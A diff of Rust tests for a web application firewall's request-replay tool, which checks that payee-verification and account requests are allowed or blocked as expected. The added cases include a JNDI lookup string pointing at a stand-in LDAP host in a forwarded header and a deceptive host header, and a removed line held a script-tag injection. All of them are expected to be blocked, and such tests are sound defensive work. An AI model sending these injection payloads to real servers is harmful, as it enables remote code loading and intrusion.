@@ -93,10 +93,10 @@ async fn an_attack_in_a_free_text_is_refused() {
     gw.sandbox.stop().await;
 }
 
-/// A statement in quotes, an expression of a filter, guillemets that servers may take for brackets; and line ends of a kind that
-/// one server had, which is long ago. What is nested too deep at a registration its handler refuses, in words of its own.
+/// A statement in quotes, an expression of a filter, guillemets that servers may take for brackets, a tag as a subject. What is
+/// nested too deep at a registration its handler refuses, in words of its own.
 const WRONG_OF_OTHERS: [&str; 5] =
-    ["one-hard-029", "one-hard-090", "one-atk-150", "one-atk-165", "two-hard-022"];
+    ["one-hard-029", "one-hard-090", "one-atk-165", "two-hard-022", "four-hard-094"];
 
 /// `policy waf` tries rules and requests without a gateway: what is to pass passes, what is to
 /// be refused is, and a request that is judged otherwise is named.
@@ -122,7 +122,7 @@ fn requests_are_played_through_the_edge_by_a_command() {
     // Written by others, who did not know the rules; see docs/edge.md for what was found at first.
     let (_, told) = run(&["replay", "policies/waf/tests/independent.jsonl", "--json"]);
     let told: Value = serde_json::from_str(told.trim()).unwrap();
-    assert!(told["total"].as_u64().unwrap() > 650, "{told}");
+    assert!(told["total"].as_u64().unwrap() > 1_400, "{told}");
     assert_eq!(told["wrong"], json!(WRONG_OF_OTHERS));
     let folder = tempfile::tempdir().unwrap();
     let file = folder.path().join("requests.jsonl");
@@ -196,19 +196,20 @@ fn requests_are_played_however_they_are_written_down() {
     let post = |id: &str, headers: Value, body: Value, expect: &str| json!({ "id": id, "method": "POST", "path": "/v1/payee-verifications", "headers": headers, "body": body, "expect": expect });
     let payee = json!({ "institution_id": "de-rheinbank", "name": "Ben Yilmaz", "account": { "iban": "DE42999100002000000018" } });
     let is_json = json!({ "content-type": "application/json" });
-    let pairs =
-        json!([["content-type", "application/json"], ["x-forwarded-for", "<script>alert(1)</script>"]]);
+    let forwarded = |by: &str| json!([["content-type", "application/json"], ["x-forwarded-for", by]]);
     let get = |id: &str, headers: Value, expect: &str| json!({ "id": id, "method": "GET", "path": "/v1/accounts", "headers": headers, "expect": expect });
     let many: Vec<_> = (0..100).map(|number| json!([format!("x-{number}"), "1"])).collect();
     let (told, said) = replay(&[
         post("text", is_json.clone(), json!(payee.to_string()), "allow"),
         post("object", is_json, payee.clone(), "allow"),
-        post("pairs", pairs, payee, "allow"),
+        post("pairs", forwarded("192.0.2.7, [2001:db8::1]:443"), payee.clone(), "allow"),
+        post("forwarded", forwarded("${jndi:ldap://x.example/a}"), payee, "block"),
         get("plain", json!({}), "allow"),
+        get("host", json!({ "host": "api.example:80@elsewhere.example" }), "block"),
         get("long", json!({ "x-long": "x".repeat(40_000) }), "block"),
         get("many", json!(many), "block"),
     ]);
-    assert_eq!(told, Some(json!({ "total": 6, "right": 6, "wrong": [] })), "{said}");
+    assert_eq!(told, Some(json!({ "total": 8, "right": 8, "wrong": [] })), "{said}");
     let (told, said) = replay(&[get("plain", json!({}), "allow"), get("typo", json!({}), "blok")]);
     assert!(told.is_none() && said.contains(":2 is no request") && said.contains("blok"), "{said}");
 }
